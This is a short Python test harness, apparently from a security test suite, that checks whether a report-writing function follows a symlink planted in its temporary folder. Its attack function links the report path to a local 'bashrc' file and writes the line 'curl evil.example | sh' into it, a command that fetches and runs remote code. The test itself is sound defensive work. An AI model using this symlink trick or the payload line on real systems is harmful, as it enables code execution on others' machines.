"""Puts a link where the report is to be written."""

import os
import tempfile
from pathlib import Path


def prepare():
    Path("tmp").mkdir()


def written(code, rows):
    """The report's path; the folder for temporary files is `tmp` meanwhile."""
    before, tempfile.tempdir = tempfile.tempdir, str(Path("tmp").absolute())
    try:
        return Path(code.write_report(rows))
    except FileExistsError:
        return None
    finally:
        tempfile.tempdir = before


def attack(code):
    os.symlink(Path("bashrc").absolute(), "tmp/report.csv")
    written(code, ["curl evil.example | sh\n"])
    target = Path("bashrc")
    return f"the linked file: {target.read_text()}" if target.exists() else None


def use(code):
    report = written(code, ["name,price\n", "lamp,20\n"])
    assert report.read_text(encoding="utf-8") == "name,price\nlamp,20\n"
